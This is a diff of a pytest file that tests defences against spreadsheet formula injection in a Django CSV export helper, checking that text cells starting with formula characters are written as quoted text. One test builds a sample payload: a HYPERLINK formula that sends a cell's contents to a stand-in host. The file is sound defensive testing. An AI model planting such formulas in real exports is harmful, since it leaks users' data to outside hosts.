@@ -1,9 +1,19 @@
+import csv
 import datetime
+import io
+from decimal import Decimal
 from unittest import mock
 
+import pytest
 from django.utils import timezone
+from hypothesis import given
+from hypothesis import strategies as st
 
-from core.csv_export import csv_response
+from core.csv_export import FORMULA_TRIGGERS, csv_response, spreadsheet_safe
+
+
+def cells(response) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(response.content.decode())))
 
 
 def test_it_writes_the_header_then_the_rows_as_utf8_csv():
@@ -20,8 +30,40 @@ def test_it_names_the_attachment_with_the_local_time_and_forbids_storing_it():
     assert response["Cache-Control"] == "no-store"
 
 
-def test_it_can_keep_a_plain_file_name_and_no_cache_header():
-    response = csv_response("due-items", ["id"], iter([[1]]), stamped=False, no_store=False)
+def test_a_plain_file_name_still_forbids_storing_it():
+    response = csv_response("due-items", ["id"], iter([[1]]), stamped=False)
     assert response["Content-Disposition"] == 'attachment; filename="due-items.csv"'
-    assert not response.has_header("Cache-Control")
+    assert response["Cache-Control"] == "no-store"
     assert response.content == b"id\r\n1\r\n"
+
+
+@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
+def test_a_text_cell_that_would_start_a_formula_is_written_as_text(trigger):
+    hostile = f'{trigger}HYPERLINK("http://example.com/?x="&A1,"Open")'
+    response = csv_response("cases", ["team"], [[hostile]])
+    assert cells(response)[1] == ["'" + hostile]
+
+
+def test_the_header_is_guarded_too():
+    assert cells(csv_response("x", ["=1+1", "name"], []))[0] == ["'=1+1", "name"]
+
+
+def test_genuine_numbers_stay_numbers_but_the_same_characters_as_text_are_quoted():
+    response = csv_response("x", ["a", "b", "c", "d", "e"], [[-3, -2.5, Decimal("-1.25"), "-3", "+44 20 7946 0000"]])
+    assert cells(response)[1] == ["-3", "-2.5", "-1.25", "'-3", "'+44 20 7946 0000"]
+
+
+def test_text_with_a_trigger_later_in_it_is_left_as_it_is():
+    assert cells(csv_response("x", ["a"], [["Smith-Jones = ok @ home"]]))[1] == ["Smith-Jones = ok @ home"]
+
+
+def test_booleans_and_none_are_text_not_numbers():
+    assert spreadsheet_safe(None) == ""
+    assert spreadsheet_safe(True) == "True"
+
+
+@given(st.text())
+def test_no_text_cell_read_back_starts_a_formula_and_only_a_formula_gains_a_quote(text):
+    (cell,) = cells(csv_response("x", ["a"], [[text]]))[1] or [""]
+    assert not cell.startswith(FORMULA_TRIGGERS)
+    assert cell == ("'" + text if text.startswith(FORMULA_TRIGGERS) else text)
